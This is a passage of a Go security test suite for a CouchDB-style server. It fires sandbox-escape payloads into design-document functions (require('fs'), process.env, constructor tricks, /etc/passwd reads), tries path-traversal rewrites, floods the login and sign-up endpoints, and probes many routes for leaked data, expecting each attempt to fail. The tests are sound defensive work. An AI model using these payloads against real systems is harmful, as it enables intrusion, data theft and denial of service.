			if strings.Contains(got, "\nX-Evil") || !strings.HasPrefix(got, "HTTP/1.1 ") {
				return f + ": " + got
			}
		}
		return "nothing odd"
	}},
	{name: "what functions can reach", want: "nothing odd", do: func(s *siege) string {
		for _, f := range []string{`require("fs")`, `require("../../../etc/passwd")`, `require("views/lib/../../../x")`, `process.env`, `globalThis.process`, `new Function("return this")()`, `this.constructor.constructor("return process")()`, `import("fs")`, `fetch("http://127.0.0.1")`, `new XMLHttpRequest()`, `Deno.env`, `Object.getPrototypeOf(function(){}).constructor("return 1")()`, `read("/etc/passwd")`, `load("/etc/passwd")`, `eval("1")`, `setTimeout(function(){},0)`, `WebAssembly.compile`} {
			text, _ := json.Marshal(map[string]any{"shows": map[string]string{"s": "function(doc,req){var x=" + f + ";return JSON.stringify(x)+String(x)}"}})
			put := s.ask(dora, "PUT", "/doras/_design/shown", text)
			got := s.ask(dora, "GET", "/doras/_design/shown/_show/s", nil)
			s.ask(dora, "DELETE", "/doras/_design/shown", nil, head("If-Match: "+strings.Trim(put.header.Get("ETag"), `"`)))
			if got.status == 200 && !strings.Contains(string(got.body), "undefined") || strings.Contains(string(got.body), "root:") || strings.Contains(string(got.body), "PATH") {
				return f + ": " + got.String() + string(got.body)
			}
		}
		return "nothing odd"
	}},
	{name: "a rewrite out of its database", want: "nothing odd", do: func(s *siege) string {
		for _, to := range []string{"../../../private/doc01", "/private/doc01", "../../../../private/doc01", "http://127.0.0.1/private/doc01", "..%2f..%2f..%2fprivate/doc01", "../../%2e%2e/private/doc01", "../../../_users/_all_docs", "../../../_node/_local/_config"} {
			for _, rewrites := range []any{[]map[string]string{{"from": "x", "to": to}}, fmt.Sprintf("function(req){return %q}", to), fmt.Sprintf("function(req){return {path:%q}}", to)} {
				text, _ := json.Marshal(map[string]any{"rewrites": rewrites})
				put := s.ask(dora, "PUT", "/doras/_design/rewritten", text)
				got := s.ask(boss, "GET", "/doras/_design/rewritten/_rewrite/x", nil) // as an administrator that dora lures there
				s.ask(dora, "DELETE", "/doras/_design/rewritten", nil, head("If-Match: "+strings.Trim(put.header.Get("ETag"), `"`)))
				if got.status < 300 {
					return fmt.Sprintf("%s: %v %.200s", text, got, got.body)
				}
			}
		}
		return "nothing odd"
	}},
	{name: "rewrites without end", want: `[45].. .+`, do: func(s *siege) string {
		put := s.ask(dora, "PUT", "/doras/_design/rewritten", `{"rewrites":[{"from":"*","to":"_rewrite/*"}]}`)
		got := s.ask(dora, "GET", "/doras/_design/rewritten/_rewrite/x", nil)
		s.ask(dora, "DELETE", "/doras/_design/rewritten", nil, head("If-Match: "+strings.Trim(put.header.Get("ETag"), `"`)))
		return got.String()
	}},

	// Floods.
	{name: "a flood of logins under many names", long: true, want: "40[13] .+|429 .+|503 .+", do: func(s *siege) string { return s.flood(func(i int) string { return fmt.Sprint("name", i) }) }},
	{name: "a flood of logins under one name", want: "40[13] .+|429 .+|503 .+", do: func(s *siege) string { return s.flood(func(int) string { return "anna" }) }},
	{name: "a flood of sign-ups", want: "201|4.. .+|503 .+", do: together(24, func(s *siege) string {
		got := ""
		for i := range 4 {
			name := fmt.Sprintf("signed%d", time.Now().UnixNano()+int64(i))
			put := s.ask(nobody, "PUT", "/_users/org.couchdb.user:"+name, fmt.Sprintf(`{"type":"user","name":%q,"roles":[],"password":"x"}`, name))
			got = put.String()
			if put.status == 201 {
				s.ask(boss, "DELETE", "/_users/org.couchdb.user:"+name+"?rev="+strings.Trim(put.header.Get("ETag"), `"`), nil)
			}
		}
		return got
	})},
}

// sees asks for a document of a database on every route, and says where its secret text was
// seen.
func (s *siege) sees(who []caller, text, db, id, field string) string {
	for _, c := range who {
		for _, r := range []string{"GET /" + db + "/" + id, "GET /" + db + "/" + id + "?attachments=true", "GET /" + db + "/" + id + "?open_revs=all", "GET /" + db + "/_all_docs?include_docs=true", "GET /" + db + `/_all_docs?key="` + id + `"&include_docs=true`, "POST /" + db + `/_all_docs?include_docs=true {"keys":["` + id + `"]}`, "GET /" + db + "/_changes?include_docs=true", "GET /" + db + "/_changes?include_docs=true&style=all_docs", "POST /" + db + `/_changes?filter=_doc_ids&include_docs=true {"doc_ids":["` + id + `"]}`, "POST /" + db + `/_changes?filter=_selector&include_docs=true {"selector":{"` + field + `":{"$gt":null}}}`, "POST /" + db + `/_bulk_get {"docs":[{"id":"` + id + `"}]}`, "POST /" + db + `/_find {"selector":{"_id":"` + id + `"}}`, "POST /" + db + `/_find {"selector":{"_id":{"$gt":null}}}`, "GET /" + db + "/_local_docs?include_docs=true", "COPY /" + db + "/" + id + " stolen", "GET /" + db + "/_design_docs?include_docs=true", `POST /_replicate {"source":"` + strings.ReplaceAll(db, "%2F", "/") + `","target":"open"}`, `POST /_replicate {"source":"http://` + strings.ReplaceAll(c.name+":"+c.password, " ", "%20") + `@` + s.address() + `/` + db + `","target":"open"}`, "GET /open/_all_docs?include_docs=true", "GET /_active_tasks", "GET /_scheduler/docs"} {
			method, rest, _ := strings.Cut(r, " ")
			path, body, _ := strings.Cut(rest, " ")
			var more []head
			if method == "COPY" {
				more, body = append(more, head("Destination: "+body)), ""
			}
			got := s.ask(c, method, path, body, more...)
			seen := string(got.body)
			if path == "/open/_all_docs?include_docs=true" && text == "hidden" {
				seen = strings.ReplaceAll(seen, `"text":"hidden"`, "") // from other attacks
			}
			mine := strings.Contains(seen, `"name":"`+c.name+`"`) && c.name != "" && !strings.Contains(seen, `"name":"dora"`)
			if strings.Contains(seen, text) && !mine {
				return fmt.Sprintf("%s %s: %v %.400s", c.name, r, got, seen)
			}
			if got.status >= 500 && got.status != 501 {
				return fmt.Sprintf("%s %s: %v %.400s", c.name, r, got, seen)
			}
		}
	}
	return "nothing seen"
}

// fromPeer has anna replicate from a peer that answers as it likes.
func (s *siege) fromPeer(answer http.HandlerFunc) string {
	peer := httptest.NewServer(answer)
	defer peer.Close()
	defer peer.CloseClientConnections()
	return s.ask(anna, "POST", "/_replicate", fmt.Sprintf(`{"source":%q,"target":"open","retries_per_request":1,"connection_timeout":3000}`, peer.URL+"/a")).String()
}

// flood tries to log in from another address than the neighbour's, many at once, for a while.
func (s *siege) flood(name func(int) string) string {
	client := &http.Client{Timeout: time.Minute, Transport: &http.Transport{
		DialContext:     (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 9)}}).DialContext,
		MaxConnsPerHost: 64, MaxIdleConnsPerHost: 64,
	}}
	defer client.CloseIdleConnections()
	end := time.Now().Add(2 * time.Second)
	answers := make([]string, 64)
	var work sync.WaitGroup
	for i := range answers {
		work.Go(func() {
			for j := i; time.Now().Before(end); j += len(answers) {
				r, _ := http.NewRequest("POST", s.base+"/_session", strings.NewReader(fmt.Sprintf(`{"name":%q,"password":"wrong"}`, name(j))))
				r.Header.Set("Content-Type", "application/json")
				if got, err := client.Do(r); err != nil {
					answers[i] = "cut"
				} else {
					answers[i] = read(got).String()
				}
			}
		})
	}
	work.Wait()
	return strings.Join(distinct(answers), "; ")
}
